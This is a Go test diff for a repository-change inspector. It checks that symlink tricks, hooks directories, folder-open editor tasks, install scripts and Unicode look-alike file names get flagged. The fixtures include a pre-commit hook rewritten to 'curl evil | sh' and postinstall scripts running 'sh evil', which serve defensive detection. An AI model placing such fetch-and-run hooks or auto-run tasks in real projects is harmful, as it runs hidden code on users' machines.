@@ -271,3 +271,62 @@ func TestParserDifferences(t *testing.T) {
 		})
 	}
 }
+
+// TestLinksAndPathsAsToolsSeeThem: a hostile agent reaches paths that run
+// code through links, case variants and the host's own hooks directory.
+func TestLinksAndPathsAsToolsSeeThem(t *testing.T) {
+	m := memBlobs{}
+	link := func(p, target string) gitx.TreeChange {
+		return gitx.TreeChange{Status: 'A', Path: p, NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put(target)}
+	}
+	entry := func(c gitx.TreeChange) gitx.TreeEntry {
+		return gitx.TreeEntry{Mode: c.NewMode, Hash: c.NewHash, Path: c.Path}
+	}
+	file := func(p, content string) gitx.TreeEntry {
+		return gitx.TreeEntry{Mode: gitx.ModeFile, Hash: m.put(content), Path: p}
+	}
+	tasks := modified(m, "cfg/tasks.json", `{}`, `{"tasks":[{"command":"sh x","runOptions":{"runOn":"folderOpen"}}]}`)
+	vscode := link(".vscode", "cfg")
+	ab, up := link("a/b", ".."), link("up", "a/b/../..")
+	loopA, loopB := link("loop/a", "b"), link("loop/b", "a")
+	gitDir, gitDirCase := link("g", ".git/hooks"), link("h", "./.GIT")
+	readme := link("docs/readme", "../README.md")
+	pkgLink := link("package.json", "x/pkg.txt")
+	pkgFile := file("x/pkg.txt", `{"scripts":{"postinstall":"sh evil"}}`)
+	tests := []struct {
+		name    string
+		changes []gitx.TreeChange
+		tree    []gitx.TreeEntry
+		hooks   string
+		want    string
+	}{
+		{"file changed behind a directory link", []gitx.TreeChange{tasks}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
+		{"directory link to an existing file", []gitx.TreeChange{vscode}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
+		{"link and file together", []gitx.TreeChange{vscode, tasks}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
+		{"chain leaves the checkout", []gitx.TreeChange{ab, up}, []gitx.TreeEntry{entry(ab), entry(up)}, "", "high:symlink-escape medium:symlink"},
+		{"link loop", []gitx.TreeChange{loopA, loopB}, []gitx.TreeEntry{entry(loopA), entry(loopB)}, "", "high:symlink-escape high:symlink-escape"},
+		{"link into .git", []gitx.TreeChange{gitDir}, []gitx.TreeEntry{entry(gitDir)}, "", "high:symlink-git-dir"},
+		{"link into .GIT", []gitx.TreeChange{gitDirCase}, []gitx.TreeEntry{entry(gitDirCase)}, "", "high:symlink-git-dir"},
+		{"manifest through a file link", []gitx.TreeChange{pkgLink}, []gitx.TreeEntry{entry(pkgLink), pkgFile}, "", "high:install-script"},
+		{"benign docs link", []gitx.TreeChange{readme}, []gitx.TreeEntry{entry(readme), file("README.md", "hi")}, "", ""},
+		{"dangling link", []gitx.TreeChange{readme}, []gitx.TreeEntry{entry(readme)}, "", "medium:symlink"},
+		{"tracked core.hooksPath", []gitx.TreeChange{modified(m, "scripts/git-hooks/pre-commit", "make lint", "curl evil | sh")}, nil, "scripts/git-hooks", "high:hooks-path"},
+		{"outside core.hooksPath", []gitx.TreeChange{modified(m, "scripts/build.sh", "a", "b")}, nil, "scripts/git-hooks", ""},
+		{"Package.json", []gitx.TreeChange{added(m, "Package.json", `{"scripts":{"postinstall":"sh x"}}`)}, nil, "", "high:install-script"},
+		{"Setup.py", []gitx.TreeChange{added(m, "Setup.py", "import os")}, nil, "", "high:build-script"},
+		{".GitHub/workflows", []gitx.TreeChange{added(m, ".GitHub/Workflows/x.yml", "on: push")}, nil, "", "high:ci"},
+		{"long s in .github", []gitx.TreeChange{added(m, ".github/workflow\u017f/x.yml", "on: push")}, nil, "", "high:ci"},
+		{"Kelvin sign in Makefile", []gitx.TreeChange{added(m, "Ma\u212aefile", "all:")}, nil, "", "medium:build-file"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, err := Inspect(tc.changes, m, Options{Tree: tc.tree, HooksPath: tc.hooks})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rules(t, fs); got != tc.want {
+				t.Fatalf("got %q, want %q\n%+v", got, tc.want, fs)
+			}
+		})
+	}
+}
